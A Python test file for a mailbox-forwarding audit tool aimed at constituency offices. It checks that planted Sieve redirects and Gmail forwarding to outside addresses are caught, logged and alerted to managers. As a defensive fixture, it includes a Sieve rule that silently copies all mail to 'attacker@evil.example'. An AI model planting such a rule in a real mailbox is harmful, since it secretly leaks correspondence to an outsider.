"""The forwarding audit job. Against a REAL Dovecot (ManageSieve) for Sieve filters: a planted
``redirect`` to an outside address is caught, the run is stored and audited, and the alert
email reaches the representative and managers through a real SMTP server (aiosmtpd sink).

Microsoft 365 and Gmail cannot run here: their tests replace the API client's fetch methods
(one seam, autospec) with the recorded documents in tests/fixtures/ (see the README there).
"""

from __future__ import annotations

import json
from pathlib import Path
from unittest import mock

import pytest

from civicshield.connectors.base import WRONG_PASSWORD, SieveSettings
from civicshield.connectors.gmail import GmailClient
from civicshield.connectors.managesieve import SieveAccount
from civicshield.core.forwarding import HACKED_ADVICE
from civicshield.web.audit.models import AuditEntry
from civicshield.web.jobs import services as jobs
from civicshield.web.mailguard.forwarding import (
    EMERGENCY_ADVICE,
    ERROR_DISCONNECTED,
    ERROR_NO_SIEVE,
    forwarding_alert_send,
    forwarding_audit_run,
)
from civicshield.web.mailguard.models import ForwardingAuditRun, WatchedMailbox

pytestmark = pytest.mark.django_db
RECORDED = Path(__file__).resolve().parents[5] / "tests" / "fixtures"

PLANTED = """require ["copy"];
# rule:[Keep a copy]
redirect :copy "attacker@evil.example";
"""
COLLEAGUE = """# rule:[Holiday cover]
redirect "caseworker@example.gov.uk";
"""


def plant(account, text: str) -> None:
    settings = SieveSettings(
        host=account.server.host,
        port=account.server.sieve_port,
        username=account.address,
        password=account.password,
        starttls=False,
    )
    with SieveAccount(settings) as sieve:
        sieve.put_script("roundcube", text)
        sieve.activate("roundcube")


@pytest.fixture
def office(cast):
    cast.office_a.own_domains = ["example.gov.uk"]
    cast.office_a.save()
    return cast.office_a


@pytest.fixture
def sieve_mailbox(office, mail_account):
    return WatchedMailbox.objects.create(
        office=office,
        name="Constituency office",
        address=mail_account.address,
        settings={
            "host": mail_account.server.host,
            "port": mail_account.server.imap_port,
            "username": mail_account.address,
            "security": "none",
        },
        password=mail_account.password,
        sieve_port=mail_account.server.sieve_port,
    )


def run_daily_check(django_capture_on_commit_callbacks, settings) -> None:
    """What the scheduler does once a day, with the jobs run right away."""
    settings.JOBS_RUN_EAGERLY = True
    with django_capture_on_commit_callbacks(execute=True):
        jobs.enqueue("mailguard.forwarding_audit")


@pytest.mark.dovecot
def test_the_daily_check_catches_a_redirect_planted_in_a_real_sieve_script(
    cast, sieve_mailbox, mail_account, smtp_sink, settings, django_capture_on_commit_callbacks
):
    settings.EMAIL_BACKEND = "django.core.mail.backends.smtp.EmailBackend"
    settings.EMAIL_HOST, settings.EMAIL_PORT = smtp_sink.host, smtp_sink.port
    plant(mail_account, PLANTED)

    run_daily_check(django_capture_on_commit_callbacks, settings)

    run = ForwardingAuditRun.objects.get(mailbox=sieve_mailbox)
    assert run.status == ForwardingAuditRun.Status.FOUND
    [finding] = run.alerts
    assert finding["target"] == "attacker@evil.example"
    assert finding["rule_name"] == "Keep a copy"
    assert run.checked and run.finished is not None and run.requested_by is None

    entry = AuditEntry.objects.get(action="mailguard.forwarding_audit.ran")
    assert entry.office == cast.office_a
    assert entry.actor_label == "scheduled check"
    assert entry.details["status"] == "found"
    assert entry.details["outside_office"] == ["attacker@evil.example"]

    [alert] = smtp_sink.messages
    assert sorted(alert.recipients) == sorted(
        [cast.representative.user.email, cast.manager.user.email]
    )
    message = alert.message
    assert "forwarding email outside the office" in message["Subject"]
    body = message.get_content()
    assert "Rule: 'Keep a copy'" in body
    assert "Sends to: attacker@evil.example" in body
    assert EMERGENCY_ADVICE in body
    assert HACKED_ADVICE in body
    run.refresh_from_db()
    assert run.alert_sent_at is not None
    assert AuditEntry.objects.filter(action="mailguard.forwarding_alert.sent").exists()


@pytest.mark.dovecot
def test_forwarding_inside_the_office_is_recorded_without_an_alert(
    sieve_mailbox, mail_account, mailoutbox
):
    plant(mail_account, COLLEAGUE)
    run = forwarding_audit_run(sieve_mailbox)
    assert run.status == ForwardingAuditRun.Status.OK
    [finding] = run.findings
    assert (finding["target"], finding["alert"]) == ("caseworker@example.gov.uk", False)
    assert AuditEntry.objects.get(action="mailguard.forwarding_audit.ran").details["status"] == "ok"
    assert mailoutbox == []


@pytest.mark.dovecot
def test_a_check_asked_for_by_a_manager_names_them(cast, sieve_mailbox, mail_account):
    plant(mail_account, PLANTED)
    run = forwarding_audit_run(sieve_mailbox, requested_by=cast.manager)
    entry = AuditEntry.objects.get(action="mailguard.forwarding_audit.ran")
    assert run.requested_by == cast.manager
    assert entry.actor == cast.manager.user


@pytest.mark.dovecot
def test_a_failed_check_is_a_run_in_the_log_too(sieve_mailbox, mailoutbox):
    WatchedMailbox.objects.filter(pk=sieve_mailbox.pk).update(password="wrong")
    sieve_mailbox.refresh_from_db()
    run = forwarding_audit_run(sieve_mailbox)
    assert run.status == ForwardingAuditRun.Status.FAILED
    assert run.error == WRONG_PASSWORD.format(
        host=sieve_mailbox.settings["host"], username=sieve_mailbox.address
    )
    entry = AuditEntry.objects.get(action="mailguard.forwarding_audit.ran")
    assert entry.details["status"] == "failed"
    sieve_mailbox.refresh_from_db()
    assert sieve_mailbox.last_error == run.error
    assert mailoutbox == []


@pytest.mark.parametrize(
    ("changes", "error"),
    [({"sieve_port": None}, ERROR_NO_SIEVE), ({"password": ""}, ERROR_DISCONNECTED)],
)
def test_a_mailbox_that_cannot_be_checked_still_gets_a_logged_run(office, changes, error):
    mailbox = WatchedMailbox.objects.create(
        office=office,
        name="Office",
        address="office@example.gov.uk",
        settings={"host": "127.0.0.1", "security": "none"},
        **{"password": "x", "sieve_port": 4190, **changes},  # noqa: S106 - test value
    )
    run = forwarding_audit_run(mailbox)
    assert (run.status, run.error) == ("failed", error)
    assert AuditEntry.objects.filter(action="mailguard.forwarding_audit.ran").count() == 1


def _recorded(name: str) -> dict[str, object]:
    return dict(json.loads((RECORDED / name).read_text()))


def test_the_gmail_check_finds_outside_forwarding_in_recorded_settings(office, mailoutbox):
    mailbox = WatchedMailbox.objects.create(
        office=office,
        kind=WatchedMailbox.Kind.GMAIL,
        name="Gmail",
        address="office@example.gov.uk",
        oauth_token="token-not-a-secret",  # noqa: S106 - test value
    )
    with (
        mock.patch.object(
            GmailClient,
            "forwarding_addresses",
            autospec=True,
            return_value=_recorded("gmail/forwardingAddresses.json"),
        ),
        mock.patch.object(
            GmailClient,
            "auto_forwarding",
            autospec=True,
            return_value=_recorded("gmail/autoForwarding.json"),
        ),
        mock.patch.object(
            GmailClient, "filters", autospec=True, return_value=_recorded("gmail/filters.json")
        ) as filters,
    ):
        run = forwarding_audit_run(mailbox)
    client = filters.call_args.args[0]
    assert client.token == "token-not-a-secret"
    assert run.status == ForwardingAuditRun.Status.FOUND
    assert run.alerts
    assert all(f["source"] == "gmail" for f in run.findings)


def test_an_alert_is_sent_only_once(cast, office, mailoutbox):
    mailbox = WatchedMailbox.objects.create(office=office, name="Office", address="o@x.example")
    run = ForwardingAuditRun.objects.create(
        office=office,
        mailbox=mailbox,
        status="found",
        findings=[
            {"rule_name": "x", "target": "a@evil.example", "detail": "Sends mail.", "alert": True}
        ],
    )
    assert forwarding_alert_send(run) is True
    assert forwarding_alert_send(run) is False
    assert len(mailoutbox) == 1
    # Volunteers and caseworkers are not alerted; managers and the representative are.
    assert cast.caseworker.user.email not in mailoutbox[0].to
    assert cast.manager.user.email in mailoutbox[0].to
